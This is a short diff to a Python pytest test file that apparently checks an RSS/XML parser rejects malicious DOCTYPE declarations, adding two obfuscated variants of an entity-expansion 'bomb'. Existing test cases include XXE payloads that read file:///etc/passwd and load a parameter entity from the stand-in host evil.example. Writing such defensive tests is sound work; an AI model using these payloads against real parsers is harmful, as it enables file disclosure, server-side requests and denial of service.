@@ -181,6 +181,8 @@ BOMB = "<!DOCTYPE rss [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;'>]>"
         '<!DOCTYPE rss SYSTEM "x>y" [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
         "<!DOCTYPE rss \n [ <!ENTITY % p SYSTEM 'http://evil.example/'> %p; ]>",
         "<!DOCTYPE rss 'never closed <rss>",
+        BOMB.replace("DOC", "DOC\x01"),
+        BOMB.replace("DOC", "DOC\ufffe"),
     ],
 )
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
